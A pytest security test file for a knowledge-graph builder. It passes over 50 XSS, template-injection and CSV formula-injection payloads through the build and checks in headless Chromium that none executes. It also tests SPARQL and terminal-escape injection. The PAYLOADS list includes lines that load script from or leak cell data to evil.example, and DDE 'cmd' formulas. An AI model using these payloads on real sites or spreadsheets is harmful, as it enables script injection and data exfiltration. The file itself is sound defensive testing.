"""Hostile article text, end to end: through the real ``graphbuild build``
(spaCy model, readers, RDF, CSV, HTML) and into headless Chromium.

More than 50 payloads (script tags, event-handler attributes, javascript:
URLs, broken markup, template syntax, formula prefixes, unicode tricks) are
put where the extractor carries them into the output: person names, the
sentences that become evidence, document ids, titles, source names, urls, a
file name and the page title. One build writes all of them; one page load
checks that none runs and none becomes an element, and that each still reads
as text where it was extracted. The same build's Turtle must parse and
round-trip through N-Triples and JSON-LD, and its events table must be safe
to open in a spreadsheet.

The browser part uses Debian's Chromium through playwright (``browser.py``):
it skips without one, and fails instead under CI.
"""

from __future__ import annotations

import csv
import html
import itertools
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
import rdflib
from rdflib.compare import isomorphic
from typer.testing import CliRunner

from browser import open_page, require_browser
from graphbuild.rdf.read import from_rdf, load_graph
from graphbuild.cli.app import app
from graphbuild.records import Article
from graphbuild.render.viz import LABEL_LIMIT
from graphbuild.safetext import clean_text

runner = CliRunner()
ROOT = Path(__file__).resolve().parent.parent

# Every payload that could run sets window.__pwned or opens a dialog; the
# page's init script (browser.py) records both.
PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__pwned=1">',
    "<svg onload=alert(1)>",
    "<svg><script>window.__pwned=1</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:window.__pwned=1",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>news</marquee>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="window.__pwned=1',
    "' onmouseover='window.__pwned=1",
    "</script><script>window.__pwned=1</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    '<style>@import "javascript:alert(1)";</style>',
    '<div style="background:url(javascript:alert(1))">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "${alert(1)}",
    "`-alert(1)-`",
    "';alert(1);//",
    '";alert(1);//',
    '\\";alert(1);//',
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)",
    "<a href=javascript&colon;alert(1)>x",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u0000<script>alert(1)</script>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<x onclick=alert(1)>click",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "\ud800<b>lone surrogate</b>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULAS = [p for p in PAYLOADS if p.lstrip("\t\r")[:1] in "=+-@"]

# Ordered country pairs: each payload's record gets its own ACCUSE edge, so
# that every payload's evidence is on some edge of the page.
COUNTRIES = ["France", "Germany", "Italy", "Spain", "Brazil", "Nigeria", "Kenya", "Japan", "India", "Chile", "Peru", "Canada"]
PAIRS = list(itertools.permutations(COUNTRIES, 2))

# A name-shaped payload for the person-name sentence: the model tags these
# (or most of them) as part of a PERSON span, so labels carry markup.
NAME_PAYLOADS = [
    "Ana<script>alert(1)</script>",
    'Mary "><img src=x onerror=alert(1)>',
    "Rick @SUM(A1)",
    "Olaf {{7*7}}",
    "Peter \u202eevil",
    "Ali &lt;b&gt;",
    "Anna \uff1cscript\uff1e",
    "Zoe =1+1",
]

PAGE_TITLE = "<script>window.__pwned=1</script> & <img src=x onerror=alert(1)>"

# Elements that could run or load something; none may come from the data.
DANGEROUS = (
    "img, iframe, frame, object, embed, svg:not(#gb-legend svg):not(#gb-timeline), svg script, math, base, form, "
    "input:not(#gb-filters input), button:not(#gb-fit):not(#gb-relations):not(.gb-button), video, audio, "
    "source, details, marquee, link:not([rel='icon'][href='data:,']), meta[http-equiv='refresh'], template, "
    "noscript, a[href], style:not(head style)"
)

_DOM_STATE = """(dangerous) => ({
  scripts: Array.from(document.scripts).map(s => s.src || "inline"),
  dangerous: Array.from(document.querySelectorAll(dangerous)).map(e => e.outerHTML.slice(0, 120)),
  handlers: Array.from(document.querySelectorAll("*")).flatMap(el =>
      Array.from(el.attributes).filter(a => a.name.toLowerCase().startsWith("on")).map(a => el.tagName + " " + a.name)),
  tags: Array.from(new Set(Array.from(document.querySelectorAll("*")).map(e => e.tagName))).sort(),
  pwned: window.__pwned !== undefined || (window.parent && window.parent.__pwned !== undefined),
  dialogs: window.__dialogs || [],
})"""

# The tags of the page template itself (and what vis-network adds at run time).
TEMPLATE_TAGS = {
    "HTML", "HEAD", "META", "TITLE", "LINK", "STYLE", "SCRIPT", "BODY", "HEADER", "H1", "SPAN", "LABEL",
    "SELECT", "OPTION", "BUTTON", "DIV", "ASIDE", "H2", "UL", "LI", "svg", "line", "CANVAS",
    "NAV", "FIELDSET", "LEGEND", "INPUT", "rect", "text",  # the explorer's filters and timeline
}
# What the evidence panel is made of (links only for http(s) URLs, which these records lack).
PANEL_TAGS = {"H2", "DIV", "SPAN", "OL", "LI", "BLOCKQUOTE", "MARK"}


def _shown(value: str) -> str:
    """What the page shows for a metadata string: whitespace collapsed (the
    reader), control and bidi characters blanked (the page)."""
    return clean_text(" ".join(value.split()))


def _clean_id(value: str) -> str:
    import unicodedata

    return "".join(ch for ch in value if unicodedata.category(ch) not in ("Cc", "Cf")).strip()


def _records() -> list[dict]:
    records = []
    for i, payload in enumerate(PAYLOADS):
        a, b = PAIRS[i]
        c = COUNTRIES[(i + 3) % len(COUNTRIES)]
        name = NAME_PAYLOADS[i % len(NAME_PAYLOADS)]
        text = (
            f"{a} accused {b} of {payload} on Monday.\n\n"
            f"Foreign Minister {name} Moreno{i} met {c}'s prime minister on Tuesday, {payload} said.\n\n"
            f"{payload}"
        )
        records.append(
            {
                "id": f"h{i:02d} {payload}",
                "date": "2024-05-06",
                "title": payload,
                "source": payload,
                "url": payload,
                "text": text,
            }
        )
    return records


@pytest.fixture(scope="module")
def built(tmp_path_factory, nlp):  # nlp: the model loads once, shared with the CLI
    folder = tmp_path_factory.mktemp("hostile-in")
    records = _records()
    # ensure_ascii: NULs and lone surrogates travel as JSON escapes, as in the wild
    (folder / "hostile.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    # A file name is a document id too.
    named = folder / '"><svg onload=alert(1)>.txt'
    named.write_text("Egypt accused Turkey of <b>meddling</b> on Monday.\n", encoding="utf-8")
    # CSV input with formula cells in every column that reaches the table.
    with open(folder / "formulas.csv", "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "date", "title", "source", "url", "text"])
        for j, formula in enumerate(FORMULAS):
            a, b = PAIRS[len(PAYLOADS) + j]
            w.writerow([f"{formula} f{j}", "2024-05-07", formula, formula, formula, f"{formula} {a} accused {b} of fraud."])
    out = tmp_path_factory.mktemp("hostile-out")
    result = runner.invoke(app, ["build", str(folder), "--out", str(out), "--title", PAGE_TITLE])
    assert result.exit_code == 0, result.output
    return {"out": out, "records": records, "output": result.output, "named": named}


@pytest.fixture(scope="module")
def kg(built):
    return from_rdf(load_graph(built["out"] / "graph.ttl"))


def _page_data(page: str) -> tuple[list[dict], list[dict]]:
    nodes = json.loads(re.search(r"var nodeData = (.*?);\n", page).group(1))
    edges = json.loads(re.search(r"var edgeData = (.*?);\n", page).group(1))
    return nodes, edges


# --- what the build extracted ---------------------------------------------------------------


def test_the_payloads_reach_the_graph(built, kg):
    """The suite tests something only if the payloads got through the extractor."""
    records = built["records"]
    assert len(PAYLOADS) >= 50
    assert len(kg.articles) == len(records) + 1 + len(FORMULAS)
    cited = {x.doc_id for ev in kg.events for x in ev.evidence}
    carried = [r for r in records if _clean_id(r["id"]) in cited]
    assert len(carried) >= 50, f"only {len(carried)} hostile records gave an event"
    sentences = [x.sentence for ev in kg.events for x in ev.evidence]
    in_sentences = [p for p in PAYLOADS if any(_shown(p)[:12] in _shown(s) for s in sentences)]
    assert len(in_sentences) >= 40, len(in_sentences)
    hostile_labels = [e.label for e in kg.entities.values() if re.search(r"[<>\"'{}@=&\uff1c\u202e]", e.label)]
    assert len(hostile_labels) >= 3, sorted(e.label for e in kg.entities.values())


# --- the file --------------------------------------------------------------------------------


def test_page_file_keeps_every_payload_inside_json(built):
    page = (built["out"] / "graph.html").read_text("utf-8")
    lowered = page.lower()
    for tag in ("<img", "<iframe", "<svg onload", "<svg/onload", "<object", "<embed", "<base", "<form", "<math", "<marquee"):
        assert tag not in lowered, tag
    assert page.count("</script>") == 2  # the library's and the page's own
    assert "\x00" not in page
    assert "<title>&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp; &lt;img src=x onerror=alert(1)&gt;</title>" in page
    nodes, edges = _page_data(page)
    for item in nodes + edges:
        assert "<" not in item["title"] and ">" not in item["title"], item["title"][:200]
        for text in (item["title"], item.get("label", "")):  # no bidi override, control or lone surrogate
            assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", text), text


def test_labels_and_tooltips_carry_the_extracted_text(built, kg):
    page = (built["out"] / "graph.html").read_text("utf-8")
    nodes, edges = _page_data(page)
    by_id = {n["id"]: n for n in nodes}
    assert set(by_id) == set(kg.entities)
    for key, ent in kg.entities.items():
        node = by_id[key]
        shown = clean_text(" ".join(clean_text(ent.label).split()), LABEL_LIMIT) or "?"
        assert node["label"] == shown, (node["label"], ent.label)
        assert clean_text(ent.label)[:200] in html.unescape(node["title"])
    explorer = json.loads(re.search(r"var explorerData = (.*?);\n", page).group(1))
    reports = {(x["doc"], x["source"]) for ev in explorer["events"] for x in ev["reports"]}
    for r in built["records"]:
        doc = _clean_id(r["id"])
        if any(x.doc_id == doc for ev in kg.events if ev.recipient for x in ev.evidence):
            assert (clean_text(doc), _shown(r["source"])) in reports, doc
            assert all(x["link"] == "" for ev in explorer["events"] for x in ev["reports"])  # no payload is a link


# --- in the browser --------------------------------------------------------------------------


def test_no_payload_runs_or_becomes_an_element_in_chromium(built, kg, tmp_path):
    require_browser()
    page_path = built["out"] / "graph.html"
    _, edges = _page_data(page_path.read_text("utf-8"))
    with open_page(page_path) as page:
        report = page.report(screenshot=tmp_path / "hostile.png")
        assert report.canvas_nonblank, report
        assert report.console_errors == [] and report.external_requests == [], report
        assert not report.pwned and report.dialogs == [], report
        before = page.pw.evaluate(_DOM_STATE, DANGEROUS)
        assert before["scripts"] == ["inline", "inline"], before["scripts"]
        assert before["dangerous"] == [] and before["handlers"] == [], before
        assert set(before["tags"]) <= TEMPLATE_TAGS, set(before["tags"]) - TEMPLATE_TAGS
        assert page.pw.locator("h1").inner_text() == clean_text(PAGE_TITLE)

        # Every tooltip is one text-only element whose text is the escaped string, unescaped.
        titles = page.pw.evaluate(
            """() => [...window.graphbuild.nodes.get(), ...window.graphbuild.edges.get()].map(
                 i => [String(i.id), i.title.tagName, i.title.children.length, i.title.textContent])"""
        )
        assert len(titles) == len(kg.entities) + len(edges)
        assert all(tag == "DIV" and children == 0 for _, tag, children, _ in titles)
        shown = {i: text for i, _, _, text in titles}
        for e in edges:
            assert shown[e["id"]] == html.unescape(e["title"])
        # Payloads read as text: in the sentences and source names of the evidence panel.
        panels = []
        for e in edges:
            assert page.pw.evaluate("(id) => window.graphbuild.explorer.showEdge(id)", e["id"])
            panels.append(page.pw.evaluate(
                "() => { const b = document.getElementById('gb-panel-body');"
                " return [b.textContent, Array.from(b.querySelectorAll('*')).map(x => x.tagName)]; }"))
        assert all(set(tags) <= PANEL_TAGS for _, tags in panels), panels[:3]
        everything = "\n".join([*shown.values(), *(text for text, _ in panels)])
        readable = [p for p in PAYLOADS if _shown(p) in everything]
        assert len(readable) >= 50, len(readable)
        options = page.pw.eval_on_selector_all("#gb-focus option", "els => els.map(e => e.textContent)")
        labels = {n["label"] for n in _page_data(page_path.read_text("utf-8"))[0]}
        assert set(options[1:]) == labels

        # Hover a few edges and nodes: vis-network builds its tooltip now.
        for edge in edges[:6]:
            point = page.pw.evaluate(
                "(id) => { const n = window.graphbuild.network;"
                " return n.canvasToDOM(n.body.edges[id].edgeType.getPoint(0.5)); }",
                edge["id"],
            )
            box = page.pw.locator("#mynetwork").bounding_box()
            page.pw.mouse.move(box["x"] + point["x"], box["y"] + point["y"])
            page.pw.wait_for_timeout(250)
            page.pw.mouse.move(1, 1)
        page.pw.select_option("#gb-focus", index=1)
        page.pw.wait_for_timeout(200)
        after = page.pw.evaluate(_DOM_STATE, DANGEROUS)
        assert after["dangerous"] == [] and after["handlers"] == [] and not after["pwned"], after
        assert after["dialogs"] == [] and page.console_errors == []
        assert set(after["tags"]) <= TEMPLATE_TAGS | PANEL_TAGS  # the last panel opened is still open


# --- RDF -------------------------------------------------------------------------------------

_IRI_BAD = re.compile(r"[\x00-\x20<>\"{}|\\^`\x7f-\x9f]")


def test_turtle_parses_iris_are_clean_and_exports_round_trip(built, tmp_path):
    out = built["out"]
    g = rdflib.Graph().parse(out / "graph.ttl", format="turtle")
    assert len(g) > 500
    iris = {t for triple in g for t in triple if isinstance(t, rdflib.URIRef)}
    for iri in iris:
        assert not _IRI_BAD.search(str(iri)) and len(str(iri)) < 300, iri
        assert str(iri).startswith(("https://w3id.org/graphbuild/", "http://www.w3.org/", "http://purl.org/",
                                    "https://schema.org/", "http://www.w3.org/ns/prov#")), iri
    # Titles come back as the reader cleaned them: whitespace collapsed, surrogates as U+FFFD.
    titles = {str(o) for o in g.objects(None, rdflib.DCTERMS.title)}
    for p in PAYLOADS:
        assert " ".join(p.replace("\ud800", "\ufffd").split()) in titles, p
    for fmt, parser in (("nt", "nt"), ("jsonld", "json-ld"), ("ttl", "turtle")):
        target = tmp_path / f"graph.{fmt}"
        result = runner.invoke(app, ["export", str(out / "graph.ttl"), "--format", fmt, "--out", str(target)])
        assert result.exit_code == 0, result.output
        assert isomorphic(rdflib.Graph().parse(target, format=parser), g), fmt


def test_hostile_text_cannot_leave_its_literal_in_a_query(built):
    """A payload shaped like SPARQL is a bound value, not query text."""
    out = built["out"]
    evil = 'x" } UNION { ?s ?p ?o } #'
    result = runner.invoke(app, ["query", str(out / "graph.ttl"), "actor-events", "--param", f"actor={evil}", "--format", "json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == []


# --- CSV -------------------------------------------------------------------------------------


def test_events_table_cells_cannot_run_as_formulas(built):
    with open(built["out"] / "events.csv", newline="", encoding="utf-8") as fh:
        raw_rows = list(csv.reader(fh))
    # A carriage return in article text must not end a row: every row has every column.
    assert {len(r) for r in raw_rows} == {len(raw_rows[0])}
    with open(built["out"] / "events.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(raw_rows) - 1
    cells = [v for row in rows for v in row.values()]
    bad = [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert bad == []
    # The formula payloads are there, neutralised with a leading apostrophe.
    for formula in FORMULAS:
        assert any(v.startswith("'") and formula.lstrip("\t\r")[:6] in v for v in cells), formula
    for column in ("doc_id", "source", "url", "sentence"):
        assert any(row[column].startswith("'") for row in rows), column


# --- messages --------------------------------------------------------------------------------


def test_skip_messages_name_file_and_line_and_cannot_drive_the_terminal(tmp_path, nlp):
    folder = tmp_path / "in"
    folder.mkdir()
    evil = folder / "evil\x1b[2J\x1b]0;owned\x07\nname.jsonl"  # a file name is untrusted too
    evil.write_bytes(b'{"id": "ok", "text": "Chile praised Peru on Monday."}\n{"id": "x", "text": \n[1, 2]\n')
    (folder / "cols.csv").write_text("id,\x1b[31mbody\n1,Chile praised Peru.\n", encoding="utf-8")
    (folder / "cr.csv").write_bytes(b"id,\rtext\n1,x\n")
    result = runner.invoke(app, ["build", str(folder), "--out", str(tmp_path / "out")])
    assert result.exit_code == 3, result.output
    skipped = [line for line in result.output.splitlines() if line.startswith("skipped ")]
    assert len(skipped) == 4, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert any(":2: invalid JSON" in line for line in skipped) and any(":3: JSON line is an array" in line for line in skipped)
    assert any("cols.csv: no 'text' column" in line for line in skipped)
    assert any("cr.csv:1: malformed CSV header" in line for line in skipped)
    assert "1 documents" in result.output


# --- limits ----------------------------------------------------------------------------------


def test_article_over_max_bytes_is_skipped_with_a_message(tmp_path, nlp):
    records = [{"id": "small", "text": "Chile praised Peru on Monday."}, {"id": "big", "text": "Chile praised Peru. " * 2_000}]
    path = tmp_path / "in.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    big_txt = tmp_path / "big.txt"
    big_txt.write_text("Kenya met Uganda. " * 2_000, encoding="utf-8")
    out = tmp_path / "out"
    result = runner.invoke(app, ["build", str(path), str(big_txt), "--out", str(out), "--max-bytes", "10000"])
    assert result.exit_code == 3, result.output
    assert re.search(rf"skipped {re.escape(str(path))}:2: record is 40,0\d\d bytes, over the limit of 10,000 \(max_bytes\); skipped", result.output)
    assert f"{big_txt}: file is 36,000 bytes, over the limit of 10,000 (max_bytes); skipped" in result.output
    assert "1 documents" in result.output
    strict = runner.invoke(app, ["build", str(path), "--out", str(tmp_path / "strict"), "--max-bytes", "10000", "--strict"])
    assert strict.exit_code == 1 and not (tmp_path / "strict" / "graph.ttl").exists()


def test_a_100000_token_sentence_does_not_hang_the_build(tmp_path):
    """100,000 words without a full stop, and a 12,000-token run of names and
    verbs without one (read in one piece, the second took about a minute, and
    four times as long for each doubling), build in a subprocess within a
    generous bound: the bound is "does not hang", not a speed target (on two
    cores it takes about 40 s, most of it parsing 100,000 tokens)."""
    path = tmp_path / "long.jsonl"
    records = [
        {"id": "words", "text": "word " * 100_000},
        {"id": "names", "text": " ".join(["France", "accused", "Germany", "of", "spying", "and"] * 2_000) + "."},
        {"id": "normal", "text": "Chile praised Peru on Monday."},
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    out = tmp_path / "out"
    command = [sys.executable, "-m", "graphbuild.cli", "build", str(path), "--out", str(out), "--no-progress"]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    started = time.monotonic()
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300)
    seconds = time.monotonic() - started
    assert done.returncode == 0, done.stderr[-2000:]
    assert "3 documents" in done.stdout, done.stdout
    kg = from_rdf(load_graph(out / "graph.ttl"))
    evidence = [x for ev in kg.events for x in ev.evidence]
    assert {x.doc_id for x in evidence} >= {"names"}
    texts = {r["id"]: r["text"] for r in records}
    for x in evidence:  # offsets still point into the article, segments or not
        assert texts[x.doc_id][x.start : x.end] == x.sentence
    print(f"100,000-token build: {seconds:.1f} s")


def test_long_articles_are_read_in_segments_with_true_offsets(nlp):
    from graphbuild.pipeline import SEGMENT_CHARS, build, segments

    paragraph = ("Brazilian Foreign Minister Rafael Moreira will visit Nigeria next week. "
                 "France accused Germany of spying on Monday, officials said.\n\n")
    text = "Kenya praised Uganda for its help.\n\n" + paragraph * (2 * SEGMENT_CHARS // len(paragraph) + 5)
    pieces = segments(text)
    assert len(pieces) >= 3 and "".join(p for _, p in pieces) == text
    assert all(len(p) <= SEGMENT_CHARS and p.endswith("\n\n") for _, p in pieces[:-1])
    kg = build([Article(id="long", text=text)], nlp=nlp)
    evidence = [x for ev in kg.events for x in ev.evidence]
    assert {x.start // SEGMENT_CHARS for x in evidence} >= {0, 1, 2}  # events read in every segment
    for x in evidence:
        assert text[x.start : x.end] == x.sentence
    for m in kg.mentions:
        assert text[m.start : m.end] == m.text
    short = build([Article(id="long", text=paragraph)], nlp=nlp)
    assert {(e.type, e.actor, e.recipient) for e in kg.events} >= {(e.type, e.actor, e.recipient) for e in short.events}


# --- same in, same out -----------------------------------------------------------------------


def _outputs(folder: Path) -> dict[str, bytes]:
    return {name: (folder / name).read_bytes() for name in ("graph.ttl", "events.csv", "graph.html")}


@pytest.fixture(scope="module")
def two_articles(tmp_path_factory, nlp):
    folder = tmp_path_factory.mktemp("same")
    lines = (ROOT / "examples" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    a, b = json.loads(lines[0]), json.loads(lines[3])
    base = folder / "ab.jsonl"
    base.write_text(json.dumps(a) + "\n" + json.dumps(b) + "\n", encoding="utf-8")
    out = folder / "out"
    result = runner.invoke(app, ["build", str(base), "--out", str(out)])
    assert result.exit_code == 0, result.output
    return {"folder": folder, "a": a, "b": b, "base": base, "out": out}


def test_an_article_already_in_the_graph_changes_nothing(two_articles):
    t = two_articles
    again = t["folder"] / "again.jsonl"
    again.write_text(json.dumps({**t["a"], "title": "A later copy"}) + "\n", encoding="utf-8")
    out = t["folder"] / "out-dup"
    result = runner.invoke(app, ["build", str(t["base"]), str(again), "--out", str(out)])
    assert result.exit_code == 3, result.output
    assert f"skipped {again}:1: duplicate document id {t['a']['id']!r} (first at {t['base']}:1); skipped" in result.output
    assert _outputs(out) == _outputs(t["out"])


def test_same_output_whatever_the_input_order_and_workers(two_articles):
    t = two_articles
    b_first = t["folder"] / "b.jsonl"
    b_first.write_text(json.dumps(t["b"]) + "\n", encoding="utf-8")
    a_only = t["folder"] / "a.jsonl"
    a_only.write_text(json.dumps(t["a"]) + "\n", encoding="utf-8")
    outs = []
    for i, args in enumerate([[b_first, a_only], [a_only, b_first], [b_first, a_only, "--workers", "2"]]):
        out = t["folder"] / f"order-{i}"
        result = runner.invoke(app, ["build", *map(str, args), "--out", str(out)])
        assert result.exit_code == 0, result.output
        outs.append(_outputs(out))
    assert outs[0] == outs[1] == outs[2]
    # Not the same bytes as the two-record file: each document records where it was read (gb:origin).
    base = from_rdf(load_graph(t["out"] / "graph.ttl"))
    reordered = from_rdf(load_graph(t["folder"] / "order-0" / "graph.ttl"))
    assert base.events == reordered.events and base.entities == reordered.entities


def test_the_same_article_under_another_id_adds_evidence_not_events(two_articles):
    t = two_articles
    copy = t["folder"] / "copy.jsonl"
    copy.write_text(json.dumps({**t["a"], "id": "a-copy"}) + "\n", encoding="utf-8")
    out = t["folder"] / "out-copy"
    result = runner.invoke(app, ["build", str(t["base"]), str(copy), "--out", str(out)])
    assert result.exit_code == 0, result.output
    before = from_rdf(load_graph(t["out"] / "graph.ttl"))
    after = from_rdf(load_graph(out / "graph.ttl"))
    # The same entities. (The merge of two records of one entity lists its own
    # label among its aliases: that is the only change.)
    assert list(after.entities) == list(before.entities)
    for key, ent in after.entities.items():
        old = before.entities[key]
        assert (ent.label, ent.type, ent.country, ent.role, ent.located_in) == (old.label, old.type, old.country, old.role, old.located_in)
        assert set(old.aliases) <= set(ent.aliases) <= set(old.aliases) | {ent.label}
    # The same events (ids are content hashes): the copy is one more source for each of a's events.
    assert [e.id for e in after.events] == [e.id for e in before.events]
    a_id = t["a"]["id"]
    for old, new in zip(before.events, after.events):
        docs_old = {x.doc_id for x in old.evidence}
        docs_new = {x.doc_id for x in new.evidence}
        assert docs_new == docs_old | ({"a-copy"} if a_id in docs_old else set())
        assert new.source_count == len(docs_new)
        copies = [x for x in new.evidence if x.doc_id == "a-copy"]
        originals = [x for x in new.evidence if x.doc_id == a_id]
        assert [(x.sentence, x.start, x.end) for x in copies] == [(x.sentence, x.start, x.end) for x in originals]
